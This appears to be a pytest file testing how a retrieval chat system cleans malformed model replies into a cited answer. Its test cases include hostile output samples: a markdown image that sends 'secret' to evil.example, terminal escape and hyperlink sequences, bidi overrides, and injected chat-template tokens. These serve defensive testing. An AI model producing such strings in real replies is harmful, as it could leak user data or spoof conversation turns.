"""Whatever a model writes, a person gets an answer that can be read, and learns what was left out."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from ayllu.agents import AgentStarted, AnswerReady, ChatSession, DraftDropped, Event, Thought, Token, Warned
from ayllu.backends.scripted import Reply, ScriptedBackend
from ayllu.config import AgentSettings, Settings
from ayllu.conversations import Answer, Conversations, Exchange
from ayllu.retrieval import SAMPLE_COLLECTION, HashingEmbedder, Library, load_sample

QUESTION = "When is the library open on Sundays?"
OPEN = "On Sundays the library is open from 10:00 to 14:00"
ANSWER = f"{OPEN} [1]."
Ask = Callable[..., tuple[Answer, list[Event]]]


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    with Library.open(Path(tmp_path_factory.mktemp("library")), HashingEmbedder(64)) as library:
        load_sample(library)
        yield library


@pytest.fixture
def ask(library: Library, conversations: Conversations) -> Callable[..., object]:
    async def ask(reply: str | Reply, **agents: object) -> tuple[Answer, list[Event]]:
        settings = Settings(agents=AgentSettings(critic_threshold=0.0, **agents))
        backend = ScriptedBackend(replies=[reply])
        chat = ChatSession(library, backend, conversations, settings, collections=[SAMPLE_COLLECTION])
        events = [event async for event in chat.ask(QUESTION)]
        assert isinstance(events[-1], AnswerReady), events[-1]
        return events[-1].answer, events

    return ask


def kept(conversations: Conversations, answer: Answer) -> Exchange:
    return conversations.get(answer.message_id)


def streamed(events: list[Event]) -> str:
    return "".join(event.text for event in events if isinstance(event, Token))


@pytest.mark.parametrize(
    ("reply", "notice"),
    [
        (f"{OPEN}.\n" * 200, "repeat"),
        (f"{OPEN}.\n\nQuestion: And on Mondays?\nAnswer: From 9.", "questions of its own"),
        (f"{OPEN} [9][77].", ""),
        (f"{OPEN}【1†source】.", ""),
        (f'```json\n{{"answer": "{OPEN}.", "sources": [1]}}\n```', ""),
        (f"**Answer:** {OPEN}.<|im_end|><|im_start|>user", ""),
        (f"\x1b]8;;http://evil\x07{OPEN}\x1b[31m\x07\x00.\u202e\u2066", ""),
        (f"![plan](https://evil.example/?q=secret) {OPEN}.", ""),
        (f"<p><b>{OPEN}.</b></p>", ""),
        (f"[/INST] {OPEN}. </s>", ""),
        (f"<s>{OPEN}.</s>", ""),
        (f"<|start_header_id|>assistant<|end_header_id|>\n\n{OPEN}.<|eot_id|>", ""),
        (f"<|im_start|>assistant\n{OPEN}.<|im_end|>\n<|im_start|>assistant\n{OPEN}.", ""),
        (f"<analysis>Sundays, hm.</analysis><answer>{OPEN}.</answer>", ""),
        (f"{QUESTION}\n\n{OPEN} (1).", ""),
    ],
)
async def test_an_answer_in_an_odd_form_is_the_answer(ask: Ask, reply: str, notice: str) -> None:
    answer, events = await ask(reply)
    assert answer.answer.removeprefix("plan ") == ANSWER
    assert answer.short == answer.answer.replace(" [1]", "")
    assert any(notice in warning for warning in answer.warnings) == bool(notice)
    assert list(answer.warnings) == [event.message for event in events if isinstance(event, Warned)]


async def test_an_answer_without_an_end_is_bounded_and_said(ask: Ask) -> None:
    words = " ".join(f"word{number}" for number in range(5_000))
    answer, events = await ask(f"{OPEN}. W{words}", max_tokens=64)
    assert len(streamed(events)) < 64 * 12 + 1_100
    assert answer.answer.startswith(ANSWER)
    assert "wrote on past 64 tokens" in answer.warnings[0]


async def test_an_answer_that_was_cut_off_says_so(ask: Ask) -> None:
    answer, _ = await ask(Reply(f"{OPEN}. On Mondays it", finish_reason="length"))
    assert "cut off after 512 tokens" in answer.warnings[0]


@pytest.mark.parametrize("reply", ["", "   \n", "[1][2]", "[1].", "…", "```\n```"])
async def test_where_nothing_was_written_the_documents_are_quoted_and_it_is_said(ask: Ask, reply: str) -> None:
    answer, events = await ask(reply)
    assert answer.kind == "quote"
    assert OPEN in answer.short
    assert any("wrote nothing" in warning for warning in answer.warnings)
    assert not any(isinstance(event, DraftDropped) for event in events)


@pytest.mark.parametrize(
    "reply",
    [
        f"<think>Sundays,\nhm.</think>\n\n{OPEN}.",
        f"Sundays,\nhm.</think>{OPEN}.",
        f"<|think|>Sundays,\nhm.<|/think|>{OPEN}.",
    ],
)
async def test_thought_is_a_step_and_no_part_of_the_answer(ask: Ask, conversations: Conversations, reply: str) -> None:
    answer, events = await ask(reply)
    assert answer.answer == ANSWER
    assert "hm" not in str(answer.to_json())
    assert kept(conversations, answer).thought == "Sundays,\nhm."
    assert answer.timings.tokens == len(reply.split())
    if reply.startswith("<"):
        assert "hm" not in streamed(events)
        assert "".join(event.text for event in events if isinstance(event, Thought)) == "Sundays,\nhm."
        notes = [event.note for event in events if isinstance(event, AgentStarted)]
        assert notes[-4:-1] == ["writing", "thinking", "writing"]


async def test_thought_that_never_ends_is_no_answer(ask: Ask, conversations: Conversations) -> None:
    answer, events = await ask(Reply("<think>On Sundays, hm", finish_reason="length"))
    assert streamed(events) == ""
    assert answer.kind == "quote"
    assert "only thought" in answer.warnings[0]
    assert kept(conversations, answer).thought == "On Sundays, hm"


async def test_what_only_the_model_s_own_words_hold_is_withdrawn(ask: Ask) -> None:
    answer, _ = await ask("香蕉长在月球上。")
    assert answer.kind == "quote"
    assert answer.withdrawn is not None


async def test_an_answer_in_another_language_stands_by_its_names_and_numbers(ask: Ask) -> None:
    answer, _ = await ask("Los domingos la biblioteca abre de 10:00 a 14:00.")
    assert answer.answer == "Los domingos la biblioteca abre de 10:00 a 14:00 [1]."
    answer, _ = await ask("Los domingos la biblioteca abre de 11:00 a 15:00.")
    assert answer.kind == "quote"


async def test_passages_copied_whole_say_everything_once(ask: Ask) -> None:
    passage = (await ask(""))[0].passages[0].text
    answer, _ = await ask(f'[1] "sample/opening-hours.md"\n{passage}\n\n{passage}')
    assert answer.answer.count("10:00 to 14:00") == passage.count("10:00 to 14:00")
    assert "opening-hours.md" not in answer.answer


async def test_offsets_of_what_is_unsupported_count_code_points(ask: Ask) -> None:
    answer, _ = await ask(f"𝔘𝔫𝔡 🦙\x1b[0m: {OPEN}. The 🦙 grazes on Kilimanjaro.\x07")
    (sentence,) = answer.unsupported
    assert answer.answer[sentence.start : sentence.end] == sentence.text == "The 🦙 grazes on Kilimanjaro."


@pytest.mark.parametrize("tail", ["```\nsudo grow --bananas", "| Banana | Moon |\n| --- | --- |\n| 77 kg | Tycho |"])
async def test_a_note_breaks_neither_code_nor_table(ask: Ask, tail: str) -> None:
    answer, _ = await ask(f"{OPEN}.\n\n{tail}")
    noted = answer.annotated("(?)")
    assert "(?)" in noted
    assert not any(line.startswith("```") and "(?)" in line for line in noted.splitlines())
    assert all(line.endswith("|") for line in noted.splitlines() if line.startswith("|"))


async def test_a_very_long_line_is_judged_in_time(ask: Ask) -> None:
    answer, _ = await ask(f"{OPEN}. X" + "x" * 5_000, max_tokens=4_096)
    assert answer.answer.startswith(ANSWER)
